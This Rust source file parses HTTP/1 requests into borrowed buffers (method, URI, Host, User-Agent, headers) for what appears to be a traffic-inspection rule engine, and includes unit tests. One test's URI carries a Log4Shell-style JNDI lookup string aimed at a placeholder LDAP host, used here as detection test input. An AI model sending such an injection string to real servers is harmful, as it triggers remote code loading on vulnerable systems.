//! HTTP/1 request buffers for the rule engine, parsed with httparse.
//!
//! Borrowed views into the payload (no allocation): method, URI, User-Agent, the header
//! block (`Name: value\r\n` lines as sent), and the Host value (port removed; lowercasing
//! is left to the caller, who owns a scratch buffer).

/// The buffers of one request.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Request<'a> {
    /// Method token.
    pub method: &'a [u8],
    /// Request target.
    pub uri: &'a [u8],
    /// Host header value, without a port.
    pub host: Option<&'a [u8]>,
    /// User-Agent header value.
    pub user_agent: Option<&'a [u8]>,
    /// Header lines after the request line, up to (not including) the blank line.
    pub headers: &'a [u8],
}

/// Parses a request at the start of `payload`. A request whose headers are cut short
/// still yields its method and URI (the header block is what arrived).
pub fn parse_request(payload: &[u8]) -> Option<Request<'_>> {
    let mut storage = [httparse::EMPTY_HEADER; 48];
    let mut req = httparse::Request::new(&mut storage);
    let status = req.parse(payload).ok()?;
    let method = req.method?.as_bytes();
    let uri = req.path?.as_bytes();
    // Slices into `payload` for method/uri: httparse returns &str borrowed from it.
    let method = subslice(payload, method)?;
    let uri = subslice(payload, uri)?;
    let line_end = memchr::memmem::find(payload, b"\r\n")? + 2;
    let header_end = match status {
        httparse::Status::Complete(n) => n.saturating_sub(2).max(line_end),
        httparse::Status::Partial => payload.len(),
    };
    let mut host = None;
    let mut user_agent = None;
    for h in req.headers.iter().filter(|h| !h.name.is_empty()) {
        if h.name.eq_ignore_ascii_case("host") {
            let v = subslice(payload, h.value)?;
            host = Some(strip_port(v));
        } else if h.name.eq_ignore_ascii_case("user-agent") {
            user_agent = subslice(payload, h.value);
        }
    }
    Some(Request {
        method,
        uri,
        host,
        user_agent,
        headers: payload.get(line_end..header_end).unwrap_or(&[]),
    })
}

fn subslice<'a>(outer: &'a [u8], inner: &[u8]) -> Option<&'a [u8]> {
    let start = (inner.as_ptr() as usize).checked_sub(outer.as_ptr() as usize)?;
    outer.get(start..start + inner.len())
}

fn strip_port(host: &[u8]) -> &[u8] {
    if host.first() == Some(&b'[') {
        return host;
    }
    match host.iter().rposition(|&c| c == b':') {
        Some(i) if host[i + 1..].iter().all(u8::is_ascii_digit) => &host[..i],
        _ => host,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_buffers() {
        let p = b"GET /a?x=${jndi:ldap://h/a} HTTP/1.1\r\nHost: Example.COM:8080\r\nUser-Agent: curl/8\r\n\r\nbody";
        let r = parse_request(p).unwrap();
        assert_eq!(r.method, b"GET");
        assert_eq!(r.uri, b"/a?x=${jndi:ldap://h/a}");
        assert_eq!(r.host, Some(&b"Example.COM"[..]));
        assert_eq!(r.user_agent, Some(&b"curl/8"[..]));
        assert_eq!(
            r.headers,
            b"Host: Example.COM:8080\r\nUser-Agent: curl/8\r\n"
        );
    }

    #[test]
    fn partial_and_non_http() {
        let r = parse_request(b"POST /x HTTP/1.1\r\nHost: a\r\nX-Long: aaa").unwrap();
        assert_eq!(r.method, b"POST");
        assert!(parse_request(b"\x16\x03\x01 tls hello").is_none());
        assert!(parse_request(b"").is_none());
    }
}
